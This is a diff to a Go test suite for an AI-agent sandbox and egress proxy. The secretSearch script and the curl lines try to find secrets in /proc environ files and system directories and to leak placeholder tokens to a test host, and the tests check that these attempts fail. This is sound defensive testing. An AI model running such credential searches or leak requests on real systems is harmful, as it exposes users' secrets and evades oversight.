@@ -19,6 +19,7 @@ import (
 	"os"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -66,46 +67,32 @@ func newEscapeSecrets(t *testing.T, host *testenv.TestHost, cfg *config.Config) 
 		_, _ = rand.Read(b)
 		s.values[name] = "sk-" + hex.EncodeToString(b) + "-" + escapeSecretMarker
 	}
-	caPEM, cert := escapeTestCA(t, escapeName, escapeOtherName)
 	dir := t.TempDir()
-	caFile, tokenFile := filepath.Join(dir, "upstream-ca.pem"), filepath.Join(dir, "git-token")
-	if err := os.WriteFile(caFile, caPEM, 0o600); err != nil {
-		t.Fatal(err)
-	}
+	tokenFile := filepath.Join(dir, "git-token")
 	if err := os.WriteFile(tokenFile, []byte(s.values["GIT_TOKEN"]+"\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	t.Setenv("BATON_TEST_OTHER_KEY", s.values["OTHER_KEY"])
 
-	l, err := testenv.ListenIn(host.NetNS, net.JoinHostPort(host.Addr.String(), "0"))
-	if err != nil {
-		t.Fatalf("listen in %s: %v", host.NetNS, err)
-	}
-	s.port = l.Addr().(*net.TCPAddr).Port
-	srv := &http.Server{
-		Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
-			body, err := io.ReadAll(r.Body)
-			if err != nil {
-				return // a request the proxy cut
-			}
-			// git sends its credential once challenged.
-			if strings.HasSuffix(r.URL.Path, "/info/refs") && r.Header.Get("Authorization") == "" {
-				rw.Header().Set("WWW-Authenticate", `Basic realm="test"`)
-				rw.WriteHeader(http.StatusUnauthorized)
-				return
-			}
-			var h strings.Builder
-			_ = r.Header.Write(&h)
-			s.mu.Lock()
-			s.seen = append(s.seen, r.Method+" "+r.Host+r.RequestURI+"\n"+h.String()+"\n"+string(body))
-			s.mu.Unlock()
-			fmt.Fprintf(rw, "%s %s over %s", r.Method, r.URL.Path, r.Proto)
-		}),
-		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}},
-		ErrorLog:  log.New(io.Discard, "", 0),
-	}
-	go func() { _ = srv.Serve(tls.NewListener(l, srv.TLSConfig)) }()
-	t.Cleanup(func() { _ = srv.Close() })
+	var caFile string
+	s.port, caFile = serveTestHostTLS(t, host, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		body, err := io.ReadAll(r.Body)
+		if err != nil {
+			return // a request the proxy cut
+		}
+		// git sends its credential once challenged.
+		if strings.HasSuffix(r.URL.Path, "/info/refs") && r.Header.Get("Authorization") == "" {
+			rw.Header().Set("WWW-Authenticate", `Basic realm="test"`)
+			rw.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		var h strings.Builder
+		_ = r.Header.Write(&h)
+		s.mu.Lock()
+		s.seen = append(s.seen, r.Method+" "+r.Host+r.RequestURI+"\n"+h.String()+"\n"+string(body))
+		s.mu.Unlock()
+		fmt.Fprintf(rw, "%s %s over %s", r.Method, r.URL.Path, r.Proto)
+	}), escapeName, escapeOtherName)
 
 	cfg.Profiles["secrets"] = config.Profile{Command: []string{"/bin/sh", "-c"}, AllowArgs: config.AnyArgs, Timeout: 2 * time.Minute,
 		Limits: config.Limits{Pids: escapePids},
@@ -121,6 +108,27 @@ func newEscapeSecrets(t *testing.T, host *testenv.TestHost, cfg *config.Config) 
 		UpstreamCA: caFile,
 	}
 	return s
+}
+
+// serveTestHostTLS serves handler over HTTPS (HTTP/1.1) on the test host
+// with a certificate for names, signed by a CA made for the test. It
+// returns the port and the CA's PEM file, a profile's upstreamCA.
+func serveTestHostTLS(t *testing.T, host *testenv.TestHost, handler http.Handler, names ...string) (int, string) {
+	t.Helper()
+	caPEM, cert := escapeTestCA(t, names...)
+	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
+	if err := os.WriteFile(caFile, caPEM, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	l, err := testenv.ListenIn(host.NetNS, net.JoinHostPort(host.Addr.String(), "0"))
+	if err != nil {
+		t.Fatalf("listen in %s: %v", host.NetNS, err)
+	}
+	srv := &http.Server{Handler: handler, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}},
+		ErrorLog: log.New(io.Discard, "", 0)}
+	go func() { _ = srv.Serve(tls.NewListener(l, srv.TLSConfig)) }()
+	t.Cleanup(func() { _ = srv.Close() })
+	return l.Addr().(*net.TCPAddr).Port, caFile
 }
 
 // escapeTestCA is a CA's certificate (PEM) and a server certificate it
@@ -154,6 +162,43 @@ func escapeTestCA(t *testing.T, names ...string) ([]byte, tls.Certificate) {
 		tls.Certificate{Certificate: [][]byte{der, caDER}, PrivateKey: key}
 }
 
+// secretSearch is shell lines an agent runs in its sandbox to look for a
+// secret's value (every test secret ends with escapeSecretMarker) and a
+// private key wherever it can read them, and to show the placeholders in
+// the environment of every process it can read, with controls that the
+// search works. No line holds the marker or a key's header whole, so
+// neither the script nor a copy of it (an agent's transcript) is found.
+const secretSearch = `M1=baton-test-secret
+printf '%s-value\n' "$M1" > /dev/shm/pattern
+K=PRIVATE
+for f in $(grep -rlsa -f /dev/shm/pattern /etc /home /workspace /tmp /run /proc/self/environ /proc/[0-9]*/environ /proc/[0-9]*/cmdline); do echo "value in $f"; done
+for f in $(grep -rlsa -e "$K KEY" /etc /home /workspace /tmp /run /proc/[0-9]*/environ); do echo "key in $f"; done
+for f in /proc/[0-9]*/environ; do tr '\0' '\n' 2>/dev/null < $f | grep '^[A-Z_]*=baton-secret-'; done | sort -u | sed 's/^/placeholder: /'
+grep -lsa -f /dev/shm/pattern /dev/shm/pattern | sed 's/^/control: the search finds the marker in /'
+grep -lsa -e "BEGIN CERTIFICATE" /etc/baton-egress-ca.pem | sed 's/^/control: found the CA certificate in /'`
+
+// checkSecretSearch checks what secretSearch printed, in out: no value
+// and no key found, the controls found, and the secret named secret a
+// placeholder in some process's environment.
+func checkSecretSearch(t *testing.T, out, secret string) {
+	t.Helper()
+	lines := strings.Split(out, "\n")
+	for _, want := range []string{"control: found the CA certificate in /etc/baton-egress-ca.pem", "control: the search finds the marker in /dev/shm/pattern"} {
+		if !slices.Contains(lines, want) {
+			t.Errorf("the agent's search printed no %s", want)
+		}
+	}
+	placeholder := "(?m)^placeholder: " + secret + "=baton-secret-" + strings.ToLower(strings.ReplaceAll(secret, "_", "-")) + "-[0-9a-f]{32}$"
+	if !regexp.MustCompile(placeholder).MatchString(out) {
+		t.Errorf("the agent's search found no placeholder for %s in an environment it can read", secret)
+	}
+	for _, bad := range []string{"value in ", "key in "} {
+		if strings.Contains(out, bad) {
+			t.Errorf("ESCAPE: the agent found %q", bad)
+		}
+	}
+}
+
 // TestEscapeSecrets: an agent whose profile has secrets holds only their
 // placeholders. Through the real sandbox and egress proxy, it calls an
 // HTTPS server on the test host with them, and the server receives the
@@ -180,13 +225,7 @@ echo "leak-body=$($CURL -o /dev/null -w '%{http_code}' --data "k=$GIT_TOKEN" $O/
 echo "leak-plain=$($CURL -o /dev/null -w '%{http_code}' "http://` + escapeName + `:` + strconv.Itoa(w.host.Port) + `/leak-plain?k=$OTHER_KEY")"
 git ls-remote "https://x-access-token:$GIT_TOKEN@` + escapeName + `:` + strconv.Itoa(s.port) + `/repo.git" >/dev/null 2>&1
 echo "trust: SSL_CERT_FILE=$SSL_CERT_FILE NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS"
-M1=baton-test-secret
-printf '%s-value\n' "$M1" > /dev/shm/pattern
-for f in $(grep -rlsa -f /dev/shm/pattern /etc /home /workspace /tmp /run /proc/self/environ /proc/[0-9]*/environ /proc/[0-9]*/cmdline); do echo "value in $f"; done
-for f in $(grep -rlsa -e "PRIVATE KEY" /etc /home /workspace /tmp /run /proc/[0-9]*/environ); do echo "key in $f"; done
-grep -lsa -f /dev/shm/pattern /dev/shm/pattern | sed 's/^/control: the search finds the marker in /'
-grep -lsa -e "baton-secret-api-key-" /proc/$$/environ | sed 's/^/control: found the placeholder in /'
-grep -lsa -e "BEGIN CERTIFICATE" /etc/baton-egress-ca.pem | sed 's/^/control: found the CA certificate in /'
+` + secretSearch + `
 tr '\0' '\n' < /proc/$$/environ | grep -c '^[A-Z_]*=baton-secret-' | sed 's/^/placeholders in environ: /'
 echo done`
 	w.submit(map[string]any{"runId": id, "profile": "secrets", "args": []string{script}})
@@ -198,25 +237,16 @@ echo done`
 	for _, want := range []string{
 		"key: GET /key over HTTP/1.1", "git: GET /git over HTTP/1.1", "other: GET /other over HTTP/1.1",
 		"leak-header=403", "leak-url=403", "leak-body=403", "leak-plain=403",
-		"placeholders in environ: 3", "control: found the CA certificate in /etc/baton-egress-ca.pem",
-		"control: the search finds the marker in /dev/shm/pattern", "done",
+		"placeholders in environ: 3", "done",
 	} {
 		if !strings.Contains("\n"+out, "\n"+want+"\n") {
 			t.Errorf("the journal lacks %s", want)
 		}
 	}
-	// The searches below found what the agent may read.
-	if !regexp.MustCompile(`\ncontrol: found the placeholder in /proc/[0-9]+/environ\n`).MatchString(out) {
-		t.Error("the agent's search did not find its own placeholder in its environ")
-	}
 	if m := regexp.MustCompile(`env API_KEY=baton-secret-api-key-[0-9a-f]{32}\n`).FindString(out); m == "" {
 		t.Errorf("the agent's API_KEY is not a placeholder")
 	}
-	for _, bad := range []string{"value in ", "key in "} {
-		if strings.Contains(out, bad) {
-			t.Errorf("ESCAPE: the agent found %q", bad)
-		}
-	}
+	checkSecretSearch(t, out, "API_KEY")
 	// The server received each value in its header, and no placeholder
 	// and no refused request.
 	seen := strings.Join(s.requests(), "\n---\n")
